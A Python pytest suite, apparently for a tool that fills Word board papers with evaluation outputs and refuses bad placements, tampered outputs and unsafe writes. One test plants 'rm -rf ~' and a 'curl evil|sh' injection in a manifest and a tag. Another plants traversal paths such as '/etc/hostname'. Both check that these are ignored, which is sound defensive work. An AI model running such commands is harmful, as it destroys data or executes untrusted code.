        "cseval:pilot/value/rob/percent_l",
        "cseval:pilot/value/primary/reading",
        "cseval:pilot/value/run/programme",
    ]
    body = "".join(in_line("x", waiting_run(tag)) for tag in tags) + waiting_block("cseval:pilot/table/weak")
    assert [p.origin.words() for p in plan_paper(word_paper(body), contents).places] == [
        "outputs/pilot-evaluation/effects.csv, row 3, column percent_low",
        "outputs/pilot-evaluation/effects.csv, row 2",
        "outputs/pilot-evaluation/places.json, values/run/programme",
        "outputs/pilot-evaluation/places.json, tables/weaknesses",
    ]


def test_filling_is_the_same_to_the_byte_every_time(contents, outputs):
    assert plan_paper(word_paper(ALL), contents).content == plan_paper(word_paper(ALL), Contents(outputs)).content


def test_a_paper_that_libreoffice_wrote(contents):
    paper = libreoffice_paper(ALL)
    new = filled(paper, contents)
    assert changed(paper, new) == {
        MAIN,
        "word/_rels/document.xml.rels",
        "[Content_Types].xml",
        "word/media/cseval1.png",
    }


def test_everything_else_in_a_paper_is_kept_to_the_byte(contents):
    paper = word_paper(ALL)
    new = members_of(filled(paper, contents))
    kept = ("customXml/item1.xml", "word/fonts/font1.odttf", "word/theme/theme1.xml", "docProps/core.xml")
    assert all(new[name] == members_of(paper)[name] for name in kept)


# What is refused --------------------------------------------------------------------------------------

CHANGE = 'w:id="9" w:author="A" w:date="2026-01-01T00:00:00Z"'
BINDING = '<w:dataBinding w:xpath="/a" w:storeItemID="{1}"/>'
FIELD = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")}
SEQ = f"{FIELD['begin']}<w:r><w:instrText> SEQ Table </w:instrText></w:r>{FIELD['separate']}{a_run('3')}{FIELD['end']}"
REFUSED = {
    "a table in a line": (in_line("x", waiting_run(TABLE)), "inside a paragraph.*select the whole paragraph"),
    "a table in a cell's control": (
        table(row(sdt(TABLE, cell(paragraph("x"))))),
        "select the whole table.*not its first",
    ),
    "a table in a row's control": (table(sdt(TABLE, row(cell(paragraph("x"))))), "rows of a table.*whole table"),
    "a value in a row's control": (table(sdt(VALUE, row(cell(paragraph("x"))))), "rows.*select the text in the cell"),
    "a figure in a row's control": (table(sdt(FIGURE, row(cell(paragraph("x"))))), "rows of a table"),
    "two cells": (table(row(sdt(VALUE, cell(paragraph("x")) * 2))), "around 2 cells.*select one cell"),
    "bound": (sdt(VALUE, paragraph("x"), properties=BINDING), "from data inside the document.*Remove Content Control"),
    "tracked": (sdt(TABLE, f"<w:p><w:ins {CHANGE}>{a_run('x')}</w:ins></w:p>"), "tracked changes.*Accept or reject"),
    "tracked around": (f"<w:p><w:ins {CHANGE}>{waiting_run(VALUE)}</w:ins></w:p>", "tracked changes"),
    "nested": (sdt(TABLE, sdt(VALUE, paragraph("x"))), "inside the control 'cseval:pilot/effects'.*Move one"),
    "twice": (waiting_block(TABLE) * 2, "more than one place.*cseval:pilot/effects#2"),
    "twice in a box": (text_box(waiting_block(TABLE) * 2, ""), "more than one place"),
    "box and beside": (
        text_box(waiting_block(TABLE), waiting_block(TABLE)) + waiting_block(TABLE),
        "more than one place",
    ),
    "unknown": (waiting_block("cseval:pilot/tabel/effects"), "nearest to 'tabel' is table"),
    "no table": (
        waiting_block("cseval:pilot/table/efects"),
        "no table 'efects'.*effects, weaknesses.*nearest is effects",
    ),
    "no figure": (waiting_block("cseval:pilot/figure/x"), "no figure 'x'.*one of series, forest"),
    "no analysis": (
        waiting_block("cseval:pilot/value/none/percent_change"),
        "no analysis 'none'.*run, primary, robbery",
    ),
    "no field": (waiting_block("cseval:pilot/value/robbery/perc"), "'perc' begins percent_change and percent_low"),
    "no evaluation": (waiting_block("cseval:violence/effects"), "no evaluation with outputs.*cseval run violence"),
    "too long": (waiting_block(f"cseval:pilot/table/{'x' * 50}"), "at most 64.*Cut a name"),
    "title": (sdt("", paragraph("x"), properties=f'<w:alias w:val="{VALUE}"/>'), "box Title.*box Tag"),
    "capitals": (waiting_block("Cseval:pilot/effects"), "small letters"),
    "plain text": (
        sdt(TABLE, paragraph("x"), properties="<w:text/>"),
        "a plain text control, which cannot hold a table",
    ),
    "picture": (sdt(VALUE, paragraph("x"), properties="<w:picture/>"), "a picture control, which cannot hold a value"),
    "list": (sdt(VALUE, paragraph("x"), properties="<w:dropDownList/>"), "a drop-down list control"),
    "date": (sdt(FIGURE, paragraph("x"), properties="<w:date/>"), "a date picker control, which cannot hold a figure"),
    "pictures": (sdt(FIGURE, f"<w:p>{picture('rId20') * 2}</w:p>"), "2 pictures in one control"),
    "comment": (sdt(TABLE, f'<w:p><w:commentRangeStart w:id="1"/>{a_run("x")}</w:p>'), "a comment inside.*move it"),
    "footnote": (in_line("x", sdt(VALUE, '<w:r><w:footnoteReference w:id="1"/></w:r>')), "a footnote inside"),
    "whole field": (in_line("x", sdt(VALUE, f"{FIELD['begin']}{a_run('3')}{FIELD['end']}")), "a field inside.*move it"),
    "simple field": (in_line("x", sdt(VALUE, '<w:fldSimple w:instr="PAGE"/>')), "a field inside.*move it"),
    "number in a value": (in_line("x", sdt(VALUE, SEQ)), "a field inside"),
    "begin of a field": (f"<w:p>{sdt(VALUE, FIELD['begin'])}{FIELD['end']}</w:p>", "a field of which one end.*Alt.F9"),
    "end of a field": (f"<w:p>{FIELD['begin']}{sdt(VALUE, FIELD['end'])}</w:p>", "a field of which one end is inside"),
    "range": (in_line("x", sdt(VALUE, '<w:aRangeEnd w:id="1"/>')), "a marked range of which one end is inside"),
    "link": (in_line("x", sdt(VALUE, f'<w:hyperlink w:anchor="a">{a_run("y")}</w:hyperlink>')), "a hyperlink inside"),
    "control": (sdt(TABLE, paragraph("x") + sdt("mine", paragraph("Legal advice."))), "another content control inside"),
    "text box": (sdt(TABLE, text_box(paragraph("a"), paragraph("a"))), "a text box inside.*move it out of the control"),
    "box in a figure": (sdt(FIGURE, text_box(paragraph("a"), paragraph("a"))), "a shape, a chart or a text box inside"),
    "picture in a value": (in_line("x", sdt(VALUE, picture("rId20"))), "a picture or a shape inside"),
    "picture in a table": (sdt(TABLE, f"<w:p>{picture('rId20')}</w:p>"), "a picture or a shape inside"),
    "old picture": (in_line("x", sdt(VALUE, "<w:r><w:pict/></w:r>")), "a picture or a shape inside"),
    "chart": (sdt(FIGURE, f"<w:p>{picture('rId20').replace('/2006/picture', '/2006/chart')}</w:p>"), "a chart or"),
    "row tracked": (
        table(f"<w:tr><w:trPr><w:del {CHANGE}/></w:trPr>{cell(sdt(VALUE, paragraph('x')))}</w:tr>"),
        "tracked changes",
    ),
    "range tracked": (f"<w:p><w:customXmlInsRangeStart {CHANGE}/>{sdt(VALUE, a_run('x'))}</w:p>", "tracked changes"),
    "section": (sdt(TABLE, "<w:p><w:pPr><w:sectPr/></w:pPr></w:p>"), "a section break inside"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_place_that_cannot_be_filled_is_refused_with_what_to_do(contents, name):
    body, said = REFUSED[name]
    with pytest.raises(UsageError, match=re.compile(said, re.DOTALL)) as error:
        plan_paper(with_picture(paragraph("Some words.") + body), contents, where="paper.docx")
    assert "nothing was changed" in str(error.value)
    assert "main text, control" in str(error.value)
    assert "Some words." in str(error.value)


def test_all_refusals_are_listed_in_one_message(contents):
    body = "".join(REFUSED[name][0] for name in ("a table in a line", "unknown", "list", "no evaluation"))
    with pytest.raises(UsageError) as error:
        plan_paper(word_paper(body + waiting_block(FIGURE)), contents)
    assert str(error.value).startswith("paper: 4 problems, so nothing was changed:\n  - ")
    assert str(error.value).count("\n  - ") == 4


def test_what_is_said_of_many_places_is_said_once(contents):
    body = "".join(
        in_line(f"{i} ", waiting_run(f"cseval:violence/value/primary/percent_change#{i}")) for i in (2, 3, 4)
    )
    with pytest.raises(UsageError) as error:
        plan_paper(word_paper(body + waiting_block("cseval:pilot/table/none")), contents, where="paper.docx")
    first, *lines = str(error.value).splitlines()
    assert first == "paper.docx: 2 problems, so nothing was changed:"
    assert lines[0].startswith(
        "  - at 3 places, of which the first is paper.docx, main text, control 'cseval:violence/"
    )
    assert lines[1].startswith("  - paper.docx, main text, control 'cseval:pilot/table/none'")


@pytest.mark.parametrize(
    "tag", ["csevel:pilot/effects", "cseval;pilot/effects", "Cseval:pilot/effects", "cseval pilot/x"]
)
def test_a_tag_with_a_slip_of_the_pen_is_refused_and_not_passed_over(contents, tag):
    with pytest.raises(UsageError, match=r"Let it begin with cseval:, in small letters"):
        plan_paper(word_paper(waiting_block(TABLE) + waiting_block(tag)), contents)


def test_controls_that_are_not_for_cseval_are_counted(contents):
    others = sdt("mine", paragraph("x")) * 2 + sdt("Several/things", paragraph("y"))
    plan = plan_paper(word_paper(waiting_block(TABLE) + others + text_box(sdt("x", ""), sdt("x", ""))), contents)
    assert plan.others == 4
    with pytest.raises(UsageError, match="no place for cseval among its 3 content controls"):
        plan_paper(word_paper(others), contents)


def test_a_place_that_is_current_may_hold_what_would_be_lost(contents):
    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
    noted = content[MAIN].replace(b"</w:sdtContent>", b'<w:commentRangeEnd w:id="1"/></w:sdtContent>')
    paper = word_file({**content, MAIN: noted})
    assert plan_paper(paper, contents).content is paper


def test_a_comment_beside_a_picture_that_is_exchanged_in_place_is_kept(contents):
    inner = f'<w:p><w:commentRangeStart w:id="1"/>{picture("rId20")}<w:commentRangeEnd w:id="1"/></w:p>'
    new = filled(with_picture(sdt(FIGURE, inner)), contents)
    assert control(new, FIGURE).find(f".//{q('commentRangeStart')}") is not None


def test_the_number_of_a_caption_is_no_loss_however_word_keeps_it(contents, outputs):
    caption = f"<w:p>{a_run('Table ')}{SEQ}{a_run(': Old')}</w:p>"
    assert text_of(control(filled(word_paper(sdt(TABLE, caption)), contents), TABLE)[0]).startswith("Table 3: Estim")
    content = members_of(filled(word_paper(sdt(TABLE, caption)), contents))
    saved = re.sub("<w:fldSimple.*?</w:fldSimple>", lambda _: SEQ, content[MAIN].decode()).replace(
        ">Table <", ">Tab. <"
    )
    new = filled(word_file({**content, MAIN: saved.encode()}), rewritten(outputs, change="−7.0%"))
    assert text_of(control(new, TABLE)[0]) == "Estimated effects, Neighbourhood Management Pilot"


def test_a_place_that_is_current_may_hold_half_a_field(contents):
    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
    main = (
        content[MAIN]
        .decode()
        .replace("</w:sdtContent></w:sdt>", f"{FIELD['begin']}</w:sdtContent></w:sdt>{FIELD['end']}")
    )
    paper = word_file({**content, MAIN: main.encode()})
    assert plan_paper(paper, contents).content is paper


@pytest.mark.parametrize("body", ["", waiting_block(TABLE)])
def test_a_place_in_a_comment_is_refused_and_not_passed_over(contents, body):
    links = relationships(*LINKS, ("rId30", "comments", "comments.xml"))
    comments = root("comments", f'<w:comment w:id="1">{in_line("x", sdt(VALUE, a_run("old")))}</w:comment>')
    paper = word_paper(body, **{"word/_rels/document.xml.rels": links, "word/comments.xml": comments})
    with pytest.raises(UsageError, match=r"comments, control 'cseval:pilot.*inside a comment.*Move it into the text"):
        plan_paper(paper, contents)


def test_macros_under_another_name_are_refused(contents):
    types = content_types(more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    with pytest.raises(UsageError, match="a document with macros"):
        plan_paper(word_paper(ALL, **{"[Content_Types].xml": types, "word/x.bin": b"x"}), contents)


def test_a_paper_without_any_place_says_how_to_add_one(contents):
    with pytest.raises(UsageError, match=r"Developer tab.*Tag for example cseval:"):
        plan_paper(word_paper(paragraph("x") + sdt("mine", paragraph("y"))), contents)


# Outputs ----------------------------------------------------------------------------------------------


def test_demonstration_outputs_are_not_taken_for_real_ones(tmp_path):
    write_run(tmp_path / "demonstration" / SLUG, places(data="demonstration"))
    paper = word_paper(in_line("by ", waiting_run(VALUE)))
    with pytest.raises(UsageError, match=r"only demonstration outputs of pilot-evaluation.*--data demonstration"):
        plan_paper(paper, Contents(tmp_path))
    new = filled(paper, Contents(tmp_path, demonstration=True))
    assert text_of(control(new, VALUE)) == "−6.2% (simulated)"


def test_a_place_says_from_which_kind_of_data_it_was_filled(outputs):
    write_run(outputs / "demonstration" / SLUG, places(data="demonstration"))
    draft = filled(word_paper(ALL), Contents(outputs, demonstration=True))
    assert set(states(draft, Contents(outputs)).values()) == {FROM_SIMULATED}
    assert {p.data for p in plan_paper(draft, Contents(outputs)).places} == {"demonstration"}
    real = filled(draft, Contents(outputs))
    assert set(states(real, Contents(outputs, demonstration=True)).values()) == {FROM_REAL}
    assert all(len(name) <= 40 for name in re.findall(r"_cseval_\w+", members_of(draft)[MAIN].decode()))


def test_real_outputs_are_not_taken_where_a_draft_was_asked_for(outputs):
    with pytest.raises(UsageError, match=r"no evaluation with demonstration outputs.*--data demonstration"):
        plan_paper(word_paper(ALL), Contents(outputs, demonstration=True))


def test_simulated_outputs_copied_to_where_real_ones_belong_are_refused(tmp_path):
    write_run(tmp_path / SLUG, places(data="demonstration"))
    with pytest.raises(UsageError, match="demonstration outputs where those on real data belong"):
        plan_paper(word_paper(ALL), Contents(tmp_path))


def test_the_table_of_claims_has_a_slug_of_its_own_and_rows_of_its_own(outputs):
    content = places("claims")
    content["tables"] = {"claims": content["tables"]["weaknesses"]}
    content["values"] = {"trend": {"verdict": "not supported", "stand_in": "none"}}
    write_run(outputs / "claims", content, rows={"claims.csv": "claim,verdict\nbiggest,\ntrend,not supported\n"})
    tags = ("cseval:claims/value/trend/verdict", "cseval:claims/value/trend/stand_in")
    body = waiting_block("cseval:claims/table/claims") + "".join(in_line("x", waiting_run(tag)) for tag in tags)
    new = filled(word_paper(body), Contents(outputs))
    assert text_of(control(new, "cseval:claims/table/claims")[-1]).endswith("of cseval claims.")
    assert [p.origin.words() for p in plan_paper(new, Contents(outputs)).places] == [
        "outputs/claims/claims.csv",
        "outputs/claims/claims.csv, row 3, column verdict",
        "outputs/claims/claims.csv, row 3",
    ]


def test_claims_have_no_place_in_a_draft(tmp_path):
    write_run(tmp_path / "demonstration" / SLUG, places(data="demonstration"))
    with pytest.raises(UsageError, match="claims are held against real data alone"):
        plan_paper(word_paper(waiting_block("cseval:claims/table/claims")), Contents(tmp_path, demonstration=True))


def spoil(folder, name, content):
    (folder / name).write_bytes(content)


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        (
            "places.json",
            b"{}",
            "places.json: changed since the run that wrote it.*Run `cseval run pilot-evaluation` again",
        ),
        ("figures/series.png", png(1, 1), "series.png: changed since the run"),
        ("effects.csv", b"a,b\n", "effects.csv: changed since the run"),
        ("manifest.json", b"{", "manifest.json: not what a run writes"),
        ("manifest.json", b"[]", "manifest.json: not what a run writes"),
        ("manifest.json", b'{"outputs": [{}]}', "manifest.json: not what a run writes"),
        ("manifest.json", b'{"outputs": []}', "no places.json.*outputs of this version"),
    ],
)
def test_outputs_that_were_changed_since_the_run_are_refused(outputs, name, content, said):
    spoil(outputs / SLUG, name, content)
    with pytest.raises(UsageError, match=said):
        plan_paper(word_paper(ALL), Contents(outputs))


def test_outputs_that_are_gone_are_refused(outputs):
    (outputs / SLUG / "figures/series.png").unlink()
    with pytest.raises(UsageError, match=r"series\.png: cannot be read"):
        plan_paper(word_paper(ALL), Contents(outputs))


DEEP = b'{"a":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
LONG = b'evaluation,analysis\n"' + b"x" * 200_000 + b'",primary\n'


def listed(folder, name, content):
    """Change a file of the outputs and what the manifest says of it."""
    manifest = json.loads((folder / "manifest.json").read_bytes())
    manifest["outputs"] = [o for o in manifest["outputs"] if o["path"] != name]
    manifest["outputs"].append({"path": name, "sha256": hashlib.sha256(content).hexdigest()})
    spoil(folder, name, content)
    spoil(folder, "manifest.json", json.dumps(manifest).encode())


@pytest.mark.parametrize(
    ("name", "content"), [("places.json", DEEP), ("effects.csv", LONG), ("checks.csv", LONG), ("places.json", b"\xff")]
)
def test_outputs_that_no_program_reads_are_refused(outputs, name, content):
    listed(outputs / SLUG, name, content)
    tag = "cseval:pilot/value/run/concerns" if name == "checks.csv" else VALUE
    with pytest.raises(UsageError, match=rf"{name}: not what a run writes.*Run `cseval run pilot-evaluation` again"):
        plan_paper(word_paper(in_line("x", waiting_run(tag))), Contents(outputs))


@pytest.mark.parametrize(
    "manifest", [DEEP, b'{"outputs": [], "x": ' + b"9" * 5000 + b"}", b'{"outputs": [], "x": "\\ud800"}']
)
def test_a_manifest_that_no_program_reads_is_refused(outputs, manifest):
    if b"ud800" in manifest:
        said = json.loads((outputs / SLUG / "manifest.json").read_bytes())
        manifest = json.dumps({**said, "x": "\ud800"}).encode()
    spoil(outputs / SLUG, "manifest.json", manifest)
    with pytest.raises(UsageError, match=r"manifest\.json: not what a run writes"):
        plan_paper(word_paper(ALL), Contents(outputs))


def test_a_figure_with_a_name_that_no_file_can_have(outputs):
    name = "x" * 300
    manifest = json.loads((outputs / SLUG / "manifest.json").read_bytes())
    content = json.loads((outputs / SLUG / "places.json").read_bytes())
    content["figures"]["series"]["path"] = name
    manifest["outputs"].append({"path": name, "sha256": ""})
    spoil(outputs / SLUG, "manifest.json", json.dumps(manifest).encode())
    listed(outputs / SLUG, "places.json", json.dumps(content).encode())
    with pytest.raises(UsageError, match="x…: cannot be read"):
        plan_paper(word_paper(ALL), Contents(outputs))


def test_no_command_is_taken_from_a_manifest_or_a_tag(outputs):
    manifest = json.loads((outputs / SLUG / "manifest.json").read_bytes())
    manifest |= {"command": "rm -rf ~ \x1b]0;x", "outputs": []}
    spoil(outputs / SLUG, "manifest.json", json.dumps(manifest).encode())
    with pytest.raises(UsageError) as error:
        plan_paper(word_paper(ALL + waiting_block("cseval:a;curl evil|sh/effects")), Contents(outputs))
    commands = re.findall("`(.*?)`", str(error.value))
    assert {*commands} == {"cseval run pilot-evaluation", "cseval run EVALUATION"}


@pytest.mark.parametrize("path", ["../../secret.png", "/etc/hostname", "figures/unlisted.png"])
def test_a_figure_outside_the_outputs_is_not_read(outputs, path):
    folder = write_run(outputs / SLUG)
    (outputs.parent / "secret.png").write_bytes(png())
    content = json.loads((folder / "places.json").read_bytes())
    content["figures"]["series"]["path"] = path
    manifest = json.loads((folder / "manifest.json").read_bytes())
    made = json.dumps(content).encode()
    for entry in manifest["outputs"]:
        if entry["path"] == "places.json":
            entry["sha256"] = hashlib.sha256(made).hexdigest()
    manifest["outputs"].append({"path": "../../secret.png", "sha256": hashlib.sha256(png()).hexdigest()})
    spoil(folder, "places.json", made)
    spoil(folder, "manifest.json", json.dumps(manifest).encode())
    with pytest.raises(UsageError, match="changed since the run"):
        plan_paper(word_paper(ALL), Contents(outputs))


def test_the_same_findings_have_the_same_hash_however_long_they_took(outputs, contents):
    paper = filled(word_paper(ALL), contents)
    manifest = json.loads((outputs / SLUG / "manifest.json").read_bytes())
    manifest["run"] = {"seconds": {"all": 12.5}}
    spoil(outputs / SLUG, "manifest.json", json.dumps(manifest).encode())
    assert plan_paper(paper, Contents(outputs)).content is paper


# The guide --------------------------------------------------------------------------------------------

PROJECT = Path(__file__).resolve().parents[2]
GUIDE = (PROJECT / "docs" / "board-papers.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("tag", sorted({*re.findall(r"cseval:[\w#/-]+/[\w#/-]+", GUIDE + survey.ADD_ONE)}))
def test_every_tag_in_the_guide_shows_something_of_the_outputs_on_file(tag):
    assert Contents(PROJECT / "outputs").find(parse_tag(tag)).run


def test_the_guide_names_tables_and_fields_that_the_outputs_on_file_have():
    on_file = json.loads((PROJECT / "outputs" / SLUG / "places.json").read_bytes())
    tables, fields, whole = re.search(
        r"any other table: (.*?) \|.*?Fields of an analysis: (.*?)Of the whole, under `run`:(.*?)What is not",
        GUIDE,
        re.DOTALL,
    ).groups()
    assert {*re.findall(r"`(\w+)`", tables)} <= {*on_file["tables"]}
    assert {*re.findall(r"`(\w+)`", fields)} <= {*on_file["values"]["primary"]}
    assert {*re.findall(r"`(\w+)`", whole)} <= {*on_file["values"]["run"], "manifest", "concerns"}


# The file ---------------------------------------------------------------------------------------------


@pytest.fixture
def path(tmp_path):
    found = tmp_path / "paper.docx"
    found.write_bytes(word_paper(ALL))
    return found


def test_a_paper_is_written_once_and_then_left_alone(path, contents):
    assert len(embed_paper(path, contents).stale) == 3
    written, when = path.read_bytes(), path.stat().st_mtime_ns
    assert embed_paper(path, contents).stale == ()
    assert (path.read_bytes(), path.stat().st_mtime_ns) == (written, when)


def test_nothing_is_written_where_it_is_only_checked(path, contents):
    before = path.read_bytes()
    assert len(embed_paper(path, contents, write=False).stale) == 3
    assert path.read_bytes() == before


def test_a_refused_place_leaves_the_paper_as_it_was(path, contents):
    path.write_bytes(word_paper(ALL + waiting_block("cseval:pilot/table/none")))
    before = path.read_bytes()
    with pytest.raises(UsageError):
        embed_paper(path, contents)
    assert path.read_bytes() == before


def test_another_file_leaves_the_paper_as_it_was(path, contents, tmp_path):
    before, other = path.read_bytes(), tmp_path / "other.docx"
    embed_paper(path, contents, out=other)
    assert path.read_bytes() == before
    written = other.read_bytes()
    embed_paper(path, contents, out=other)
    assert other.read_bytes() == written
    assert embed_paper(other, contents).stale == ()


def test_another_paper_is_not_written_over(path, contents, tmp_path):
    other = tmp_path / "other.docx"
    other.write_bytes(b"somebody's work")
    with pytest.raises(UsageError, match=r"other.docx: is there already.*add --force to replace it"):
        embed_paper(path, contents, out=other)
    assert other.read_bytes() == b"somebody's work"
    embed_paper(path, contents, out=other, force=True)
    assert embed_paper(other, contents).stale == ()


def test_a_folder_is_never_replaced(path, contents, tmp_path):
    (tmp_path / "folder.docx").mkdir()
    with pytest.raises(UsageError, match="is a folder"):
        embed_paper(path, contents, out=tmp_path / "folder.docx", force=True)


def test_the_paper_itself_may_be_named_as_the_other_file(path, contents):
    embed_paper(path, contents, out=path)
    assert embed_paper(path, contents).stale == ()


def saved_meanwhile(monkeypatch, path, content):
    """Have somebody save another file under this name while a paper is read."""

    def slow(*arguments, **options):
        plan = plan_paper(*arguments, **options)
        path.write_bytes(content)
        return plan

    monkeypatch.setattr(embed, "plan_paper", slow)


@pytest.mark.parametrize("itself", [False, True])
def test_what_somebody_saved_while_cseval_worked_is_not_lost(path, contents, monkeypatch, itself):
    saved_meanwhile(monkeypatch, path, b"an hour of work")
    with pytest.raises(UsageError, match=r"saved by someone else while cseval worked.*run again"):
        embed_paper(path, contents, out=path if itself else None)
    assert path.read_bytes() == b"an hour of work"
    assert [p.name for p in path.parent.iterdir() if p.suffix != ""] == ["paper.docx"]


def test_a_paper_that_was_moved_away_while_cseval_worked_is_not_made_again(path, contents, monkeypatch):
    monkeypatch.setattr(embed, "plan_paper", lambda *a, **k: (plan_paper(*a, **k), path.unlink())[0])
    with pytest.raises(UsageError, match="no such file"):
        embed_paper(path, contents)
    assert not path.exists()


def test_another_file_that_appears_while_cseval_works_is_not_lost(path, contents, monkeypatch, tmp_path):
    saved_meanwhile(monkeypatch, tmp_path / "other.docx", b"an hour of work")
    with pytest.raises(UsageError, match="is there already"):
        embed_paper(path, contents, out=tmp_path / "other.docx")
    assert (tmp_path / "other.docx").read_bytes() == b"an hour of work"


def test_an_open_paper_that_is_current_needs_no_closing(path, contents):
    embed_paper(path, contents)
    path.with_name("~$paper.docx").write_bytes(b"me")
    assert embed_paper(path, contents).stale == ()


def test_a_fault_in_filling_is_found_before_anything_is_written(path, contents, monkeypatch):
    before = path.read_bytes()
    monkeypatch.setattr(embed, "fill_value", lambda *_: None)
    with pytest.raises(CsevalError, match="does not read back"):
        embed_paper(path, contents)
    assert path.read_bytes() == before


def test_the_builders_make_xml_that_stands_on_its_own():
    assert etree.fromstring(f"<x {NAMESPACES}>{PLACEHOLDER}{ALL}</x>") is not None
